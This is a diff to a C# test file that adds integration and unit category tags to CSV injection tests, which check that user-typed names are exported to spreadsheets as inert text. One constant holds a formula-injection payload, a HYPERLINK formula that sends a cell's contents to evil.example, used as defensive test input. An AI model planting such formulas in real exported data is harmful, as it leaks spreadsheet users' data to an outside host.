@@ -9,6 +9,7 @@ namespace Forecasting.Web.Tests;
 /// Names a user typed into the API come back in the CSV downloads as text a spreadsheet shows, never as a formula it
 /// runs (OWASP's CSV injection advice: a leading single quote, the field quoted), while the numbers stay numbers.
 /// </summary>
+[Trait("Category", "integration")]
 public sealed class CsvInjectionTests(WebFactory factory) : IClassFixture<WebFactory>
 {
     private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
@@ -80,6 +81,7 @@ public sealed class CsvInjectionTests(WebFactory factory) : IClassFixture<WebFac
 }
 
 /// <summary>The writer itself, cell by cell, against fields written by hand.</summary>
+[Trait("Category", "unit")]
 public sealed class DataTableCsvTests
 {
     [Fact]
